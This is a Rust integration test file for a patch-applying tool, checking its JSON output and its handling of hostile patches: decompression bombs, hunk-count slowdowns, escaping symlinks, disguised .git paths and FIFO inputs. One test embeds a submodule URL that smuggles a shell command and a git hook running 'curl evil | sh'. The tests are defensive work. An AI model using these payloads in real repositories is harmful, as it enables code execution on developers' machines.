//! `patchdesk apply` contract: JSON shape and exit codes, on a real repository.

use std::process::Command;

fn patchdesk(args: &[&str]) -> (i32, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_patchdesk")).args(args).output().unwrap();
    (out.status.code().unwrap_or(-1), String::from_utf8_lossy(&out.stdout).into_owned())
}

fn setup() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| {
        let o = Command::new("git").arg("-C").arg(dir.path()).args(args).output().unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    };
    git(&["init", "-q", "-b", "main"]);
    std::fs::write(dir.path().join("a.txt"), "one\ntwo\n").unwrap();
    git(&["add", "a.txt"]);
    git(&["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "c"]);
    std::fs::write(dir.path().join("ok.diff"), "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n").unwrap();
    std::fs::write(dir.path().join("bad.diff"), "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n one\n-zzz\n+2\n").unwrap();
    dir
}

#[test]
fn json_contract_and_exit_codes() {
    let dir = setup();
    let repo = dir.path().to_str().unwrap();
    let p = |f: &str| dir.path().join(f).to_str().unwrap().to_string();
    let (code, out) = patchdesk(&["apply", "--repo", repo, "--base", "main", "--json", &p("ok.diff")]);
    assert_eq!(code, 0, "{out}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["outcome"], "clean");
    assert_eq!(v["tree"].as_str().unwrap().len(), 40);
    assert_eq!(v["files"][0]["path"], "a.txt");
    assert_eq!(v["files"][0]["status"], "modified");
    assert_eq!(v["files"][0]["added"], 1);
    assert!(v["repairs"].as_array().unwrap().is_empty());
    // The tree is really in the object database and has the change.
    let show = Command::new("git")
        .arg("-C")
        .arg(repo)
        .args(["show", &format!("{}:a.txt", v["tree"].as_str().unwrap())])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&show.stdout), "one\n2\n");

    let (code, out) = patchdesk(&["apply", "--repo", repo, "--base", "main", "--json", &p("bad.diff")]);
    assert_eq!(code, 1);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["outcome"], "refused");
    assert!(v["tree"].is_null());
    assert_eq!(v["problems"][0]["path"], "a.txt");
    assert_eq!(v["problems"][0]["hunk"], 1);

    let (code, out) = patchdesk(&["apply", "--repo", repo, "--base", "main", &p("ok.diff")]);
    assert_eq!(code, 0);
    assert!(out.starts_with("Applied cleanly."), "{out}");

    // Usage errors: missing file, not a repository, unknown revision.
    assert_eq!(patchdesk(&["apply", "--repo", repo, "--base", "main", &p("missing.diff")]).0, 2);
    assert_eq!(patchdesk(&["apply", "--repo", "/nonexistent-dir", "--base", "main", &p("ok.diff")]).0, 2);
    assert_eq!(patchdesk(&["apply", "--repo", repo, "--base", "no-such-branch", &p("ok.diff")]).0, 2);
    assert_eq!(patchdesk(&["apply", "--repo", repo, &p("ok.diff")]).0, 2);
}

// ---------- hostile inputs (issue 10): each through the real binary ----------

/// Runs `patchdesk apply --json` under `/usr/bin/time` when it exists; returns the exit code,
/// the JSON report, the wall time and the peak memory in MiB (0 when it could not be measured).
fn apply_measured(
    repo: &std::path::Path,
    patch: &std::path::Path,
    extra: &[&str],
) -> (i32, serde_json::Value, f64, u64) {
    let bin = env!("CARGO_BIN_EXE_patchdesk");
    let timer = std::path::Path::new("/usr/bin/time");
    let mut cmd = if timer.exists() {
        let mut c = Command::new(timer);
        c.args(["-f", "peak-kb %M"]).arg(bin);
        c
    } else {
        Command::new(bin)
    };
    cmd.args(["apply", "--repo"]).arg(repo).args(["--base", "main", "--json"]).args(extra).arg(patch);
    let t0 = std::time::Instant::now();
    let out = cmd.output().unwrap();
    let secs = t0.elapsed().as_secs_f64();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let peak = stderr
        .lines()
        .filter_map(|l| l.strip_prefix("peak-kb "))
        .filter_map(|k| k.trim().parse::<u64>().ok())
        .next()
        .unwrap_or(0)
        / 1024;
    let v = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|_| panic!("no JSON (exit {:?}): {stderr}", out.status.code()));
    (out.status.code().unwrap_or(-1), v, secs, peak)
}

fn git_in(dir: &std::path::Path, args: &[&str]) -> Vec<u8> {
    let o = Command::new("git").arg("-C").arg(dir).args(args).output().unwrap();
    assert!(o.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&o.stderr));
    o.stdout
}

/// A repository whose `main` holds `files`.
fn repo_of(files: &[(&str, &[u8])]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    git_in(dir.path(), &["init", "-q", "-b", "main"]);
    for (p, c) in files {
        let full = dir.path().join(p);
        std::fs::create_dir_all(full.parent().unwrap()).unwrap();
        std::fs::write(full, c).unwrap();
        git_in(dir.path(), &["add", p]);
    }
    git_in(dir.path(), &["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "base"]);
    dir
}

fn problems(v: &serde_json::Value) -> String {
    v["problems"]
        .as_array()
        .map(|a| a.iter().map(|p| p["message"].as_str().unwrap_or("").to_string()).collect::<Vec<_>>().join(" | "))
        .unwrap_or_default()
}

/// Finding 6: binary literals that each pass the per-file limit but together unpack to more
/// than a gigabyte (git's own `--binary` output for a 32 MiB file, 40 times over, 1.2 MB of
/// patch). Refused with one sentence, fast, in bounded memory.
#[test]
fn binary_literal_bomb_is_refused_fast_in_bounded_memory() {
    let dir = repo_of(&[("a.txt", b"one\n")]);
    let scratch = tempfile::tempdir().unwrap();
    std::fs::write(scratch.path().join("big.bin"), vec![0u8; 32 << 20]).unwrap();
    let o = Command::new("git")
        .current_dir(scratch.path())
        .args(["diff", "--no-index", "--binary", "/dev/null", "big.bin"])
        .output()
        .unwrap();
    let one = String::from_utf8(o.stdout).unwrap();
    assert!(one.contains("GIT binary patch\nliteral 33554432\n"), "{}", &one[..one.len().min(300)]);
    let patch: String = (0..40).map(|i| one.replace("big.bin", &format!("blob{i}.bin"))).collect();
    let file = dir.path().join("bomb.diff");
    std::fs::write(&file, &patch).unwrap();
    let (code, v, secs, peak) = apply_measured(dir.path(), &file, &[]);
    eprintln!("binary bomb: {} KB patch, exit {code}, {secs:.2} s, peak {peak} MiB", patch.len() / 1024);
    assert_eq!(code, 1, "{v}");
    assert_eq!(v["outcome"], "refused");
    assert_eq!(
        problems(&v),
        "bomb.diff: The patch's binary files would unpack to more than 256 MB; Patchdesk stops there. Ask the pod to send large files in a ZIP bundle."
    );
    assert!(secs < 10.0, "{secs} s");
    assert!(peak == 0 || peak < 700, "peak memory {peak} MiB");
}

fn numbered(n: usize) -> String {
    (1..=n).map(|i| format!("line {i}\n")).collect()
}

/// `hunks` hunks, each replacing the second line of four by two lines (so every hunk moves
/// the rest of the file), with correct line numbers; and the result as text.
fn many_hunks(hunks: usize, bare: bool) -> (String, String) {
    let mut patch = String::new();
    let mut want = String::new();
    for k in 0..hunks {
        let a = 4 * k + 1;
        if bare {
            patch.push_str("@@\n");
        } else {
            patch.push_str(&format!("@@ -{a},3 +{},4 @@\n", a + k));
        }
        patch.push_str(&format!(" line {a}\n-line {}\n+LINE {}\n+MORE {}\n line {}\n", a + 1, a + 1, a + 1, a + 2));
        want.push_str(&format!("line {a}\nLINE {}\nMORE {}\nline {}\nline {}\n", a + 1, a + 1, a + 2, a + 3));
    }
    (patch, want)
}

fn tree_file(repo: &std::path::Path, tree: &str, path: &str) -> Vec<u8> {
    git_in(repo, &["cat-file", "blob", &format!("{tree}:{path}")])
}

/// Finding 7: a file created in the patch, then changed by 100 000 hunks further down the same
/// patch (each hunk used to splice the whole file: 9–12 s in a release build).
#[test]
fn a_hundred_thousand_hunks_on_a_file_made_in_the_same_patch_apply_in_linear_time() {
    let dir = repo_of(&[("a.txt", b"one\n")]);
    let n = 100_000;
    let body = numbered(4 * n);
    let mut patch = format!(
        "diff --git a/big.txt b/big.txt\nnew file mode 100644\n--- /dev/null\n+++ b/big.txt\n@@ -0,0 +1,{} @@\n",
        4 * n
    );
    for l in body.lines() {
        patch.push('+');
        patch.push_str(l);
        patch.push('\n');
    }
    let (hunks, want) = many_hunks(n, false);
    patch.push_str("diff --git a/big.txt b/big.txt\n--- a/big.txt\n+++ b/big.txt\n");
    patch.push_str(&hunks);
    let file = dir.path().join("many.diff");
    std::fs::write(&file, &patch).unwrap();
    let (code, v, secs, peak) = apply_measured(dir.path(), &file, &[]);
    eprintln!("100k hunks on a new file: exit {code}, {secs:.2} s, peak {peak} MiB");
    assert_eq!(code, 0, "{}", problems(&v));
    assert_eq!(tree_file(dir.path(), v["tree"].as_str().unwrap(), "big.txt"), want.as_bytes());
    assert!(secs < 10.0, "{secs} s");
}

/// Finding 7: 100 000 hunks with bare `@@` headers (no line numbers) on a 400 000-line file;
/// each was placed by scanning to the end of the file (138 s in a release build).
#[test]
fn a_hundred_thousand_bare_hunks_are_placed_without_rescanning_the_file() {
    let n = 100_000;
    let dir = repo_of(&[("big.txt", numbered(4 * n).as_bytes())]);
    let (hunks, want) = many_hunks(n, true);
    let patch = format!("--- a/big.txt\n+++ b/big.txt\n{hunks}");
    let file = dir.path().join("bare.diff");
    std::fs::write(&file, &patch).unwrap();
    let (code, v, secs, peak) = apply_measured(dir.path(), &file, &[]);
    eprintln!("100k bare hunks: exit {code}, {secs:.2} s, peak {peak} MiB");
    assert_eq!(code, 0, "{}", problems(&v));
    assert_eq!(v["outcome"], "repaired");
    assert_eq!(tree_file(dir.path(), v["tree"].as_str().unwrap(), "big.txt"), want.as_bytes());
    assert!(secs < 10.0, "{secs} s");
}

/// Finding 7: hunks whose (consistent) line numbers are all far from their lines make every
/// placement search; the search is bounded and the patch refused or applied in time.
#[test]
fn hunks_far_from_their_line_numbers_end_in_time() {
    // Lines are `a` or `b` at random, so one line matches half the file and a window of 24
    // lines about one place.
    let lines = 200_000;
    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
    let all: Vec<&str> = (0..lines)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            if x & 1 == 0 {
                "a"
            } else {
                "b"
            }
        })
        .collect();
    let body: String = all.iter().map(|l| format!("{l}\n")).collect();
    let dir = repo_of(&[("ab.txt", body.as_bytes())]);
    let mut patch = String::from("--- a/ab.txt\n+++ b/ab.txt\n");
    // Each hunk's lines come from the end of the file; the (consistent) headers say the start.
    let hunks = 1000;
    for k in 0..hunks {
        let at = lines - 24 * (hunks - k);
        patch.push_str(&format!("@@ -{},24 +{},24 @@\n", k * 24 + 2, k * 24 + 2));
        for (j, l) in all[at..at + 24].iter().enumerate() {
            if j == 12 {
                patch.push_str(&format!("-{l}\n+c\n"));
            } else {
                patch.push_str(&format!(" {l}\n"));
            }
        }
    }
    let file = dir.path().join("far.diff");
    std::fs::write(&file, &patch).unwrap();
    let (code, v, secs, _) = apply_measured(dir.path(), &file, &[]);
    eprintln!("far hunks: exit {code}, {secs:.2} s: {}", problems(&v).chars().take(300).collect::<String>());
    assert!(code == 0 || code == 1, "{v}");
    assert!(secs < 10.0, "{secs} s");
}

fn link_patch(path: &str, target: &str) -> String {
    format!(
        "diff --git a/{path} b/{path}\nnew file mode 120000\nindex 0000000..1111111\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+{target}\n\\ No newline at end of file\n"
    )
}

/// Finding 4: a pod's patch cannot add a link unless the project allows links, and even then
/// not one that leads out of the repository or into `.git`.
#[test]
fn links_from_pods_are_refused_unless_allowed_and_never_outside() {
    let dir = repo_of(&[("README.md", b"hi\n"), ("docs/guide.md", b"g\n")]);
    let write = |name: &str, body: &str| {
        let f = dir.path().join(name);
        std::fs::write(&f, body).unwrap();
        f
    };
    let out = write("out.diff", &link_patch("docs/x", "../../etc"));
    let (code, v, _, _) = apply_measured(dir.path(), &out, &[]);
    assert_eq!(code, 1);
    assert_eq!(
        problems(&v),
        "The patch makes `docs/x` a link to `../../etc`; Patchdesk does not take links from pods unless the project allows them."
    );
    let (code, v, _, _) = apply_measured(dir.path(), &out, &["--allow-links"]);
    assert_eq!(code, 1);
    assert_eq!(
        problems(&v),
        "The patch makes `docs/x` a link to `../../etc`, which points outside the project; Patchdesk does not take such links. Ask the pod for the file itself."
    );
    for (i, target) in ["/etc/passwd", "../.git/config", "C:/Windows", "a/../../../x"].iter().enumerate() {
        let f = write(&format!("bad{i}.diff"), &link_patch("docs/y", target));
        let (code, v, _, _) = apply_measured(dir.path(), &f, &["--allow-links"]);
        assert_eq!(code, 1, "{target}: {v}");
        assert!(problems(&v).contains("points outside the project"), "{target}: {v}");
    }
    // Allowed and inside: taken, and listed as a risk for review.
    let inside = write("in.diff", &link_patch("docs/readme", "../README.md"));
    let (code, v, _, _) = apply_measured(dir.path(), &inside, &[]);
    assert_eq!(code, 1, "{v}");
    let (code, v, _, _) = apply_measured(dir.path(), &inside, &["--allow-links"]);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["risks"][0]["risk"], "link");
    assert_eq!(v["risks"][0]["path"], "docs/readme");
    let tree = v["tree"].as_str().unwrap();
    let ls = String::from_utf8(git_in(dir.path(), &["ls-tree", tree, "docs/readme"])).unwrap();
    assert!(ls.starts_with("120000 "), "{ls}");
    // Turning an existing file into a link is a change to a link too.
    let retype = write(
        "retype.diff",
        "diff --git a/docs/guide.md b/docs/guide.md\nold mode 100644\nnew mode 120000\n--- a/docs/guide.md\n+++ b/docs/guide.md\n@@ -1 +1 @@\n-g\n+/etc/shadow\n\\ No newline at end of file\n",
    );
    let (code, v, _, _) = apply_measured(dir.path(), &retype, &[]);
    assert_eq!(code, 1, "{v}");
    assert!(problems(&v).contains("a link to `/etc/shadow`"), "{v}");
}

/// Findings 9 and 12: paths that are `.git` in disguise, that hide their direction, or that
/// differ from another only in case.
#[test]
fn disguised_git_folders_direction_tricks_and_case_twins_are_refused() {
    let dir = repo_of(&[("README.md", b"hi\n")]);
    let add = |path: &str| format!("--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+x\n");
    for (i, (path, shown)) in [
        (".git/hooks/post-checkout", ".git/hooks/post-checkout"),
        ("GIT~1/hooks/post-checkout", "GIT~1/hooks/post-checkout"),
        (".GiT/config", ".GiT/config"),
        (".gi\u{200c}t/hooks/pre-commit", ".gi<U+200C>t/hooks/pre-commit"),
        ("\u{feff}.git/config", "<U+FEFF>.git/config"),
        (".git::$INDEX_ALLOCATION/config", ".git::$INDEX_ALLOCATION/config"),
        ("invoice\u{202e}txt.exe", "invoice<U+202E>txt.exe"),
        ("../outside.txt", "../outside.txt"),
    ]
    .iter()
    .enumerate()
    {
        let f = dir.path().join(format!("p{i}.diff"));
        std::fs::write(&f, add(path)).unwrap();
        let (code, v, _, _) = apply_measured(dir.path(), &f, &[]);
        assert_eq!(code, 1, "{path:?}: {v}");
        let text = problems(&v);
        assert!(text.contains(shown), "{path:?}: {text}");
        assert!(!text.contains('\u{202e}') && !text.contains('\u{200c}'), "{text}");
    }
    // Two spellings of one name in one patch: refused.
    let twins = dir.path().join("twins.diff");
    std::fs::write(&twins, format!("{}{}", add("Docs/a.md"), add("docs/b.md"))).unwrap();
    let (code, v, _, _) = apply_measured(dir.path(), &twins, &[]);
    assert_eq!(code, 1, "{v}");
    assert!(problems(&v).contains("`Docs` and `docs`"), "{v}");
    // A new name that only differs in case from one in the project: applied, flagged.
    let near = dir.path().join("near.diff");
    std::fs::write(&near, add("readme.md")).unwrap();
    let (code, v, _, _) = apply_measured(dir.path(), &near, &[]);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["risks"][0]["risk"], "case_collision", "{v}");
    assert_eq!(v["risks"][0]["path"], "readme.md");
    // A rename that only changes case is fine.
    let rename = dir.path().join("rename.diff");
    std::fs::write(
        &rename,
        "diff --git a/README.md b/readme.md\nsimilarity index 100%\nrename from README.md\nrename to readme.md\n",
    )
    .unwrap();
    let (code, v, _, _) = apply_measured(dir.path(), &rename, &[]);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["risks"].as_array().unwrap().len(), 0, "{v}");
}

/// Finding 9: risky paths are applied but named in the report for an explicit "I understand".
#[test]
fn risky_paths_are_named_in_the_report() {
    let dir = repo_of(&[(".github/workflows/ci.yml", b"on: push\n"), ("src/a.txt", b"a\n")]);
    let patch = "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1,2 @@\n on: push\n+jobs: {}\n\
--- /dev/null\n+++ b/.gitmodules\n@@ -0,0 +1,3 @@\n+[submodule \"x\"]\n+\tpath = x\n+\turl = ext::sh -c touch% /tmp/pwned\n\
--- /dev/null\n+++ b/.patchdesk/state.yaml\n@@ -0,0 +1 @@\n+x: 1\n\
--- /dev/null\n+++ b/.husky/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n\
--- a/src/a.txt\n+++ b/src/a.txt\n@@ -1 +1 @@\n-a\n+b\n";
    let f = dir.path().join("risky.diff");
    std::fs::write(&f, patch).unwrap();
    let (code, v, _, _) = apply_measured(dir.path(), &f, &[]);
    assert_eq!(code, 0, "{v}");
    let risks: Vec<(String, String)> = v["risks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["path"].as_str().unwrap().to_string(), r["risk"].as_str().unwrap().to_string()))
        .collect();
    let want = [
        (".github/workflows/ci.yml", "workflow"),
        (".gitmodules", "submodule_command"),
        (".patchdesk/state.yaml", "patchdesk_own"),
        (".husky/pre-commit", "git_hooks"),
    ];
    assert_eq!(risks, want.map(|(p, r)| (p.to_string(), r.to_string())));
    assert_eq!(
        v["risks"][0]["message"],
        "changes the automation GitHub runs with your repository's secrets (.github/workflows/ci.yml)"
    );
}

/// Finding 6 (CLI side): a FIFO or a device as the patch is refused at once, not waited on or
/// read forever.
#[test]
fn fifos_and_devices_are_refused_without_reading_them() {
    let dir = repo_of(&[("a.txt", b"one\n")]);
    let fifo = dir.path().join("pipe.diff");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    for input in [fifo.as_path(), std::path::Path::new("/dev/zero")] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_patchdesk"))
            .args(["apply", "--repo"])
            .arg(dir.path())
            .args(["--base", "main"])
            .arg(input)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let t0 = std::time::Instant::now();
        let status = loop {
            if let Some(st) = child.try_wait().unwrap() {
                break Some(st);
            }
            if t0.elapsed().as_secs() >= 10 {
                child.kill().unwrap();
                child.wait().unwrap();
                break None;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        };
        assert_eq!(status.and_then(|s| s.code()), Some(2), "{}", input.display());
    }
}
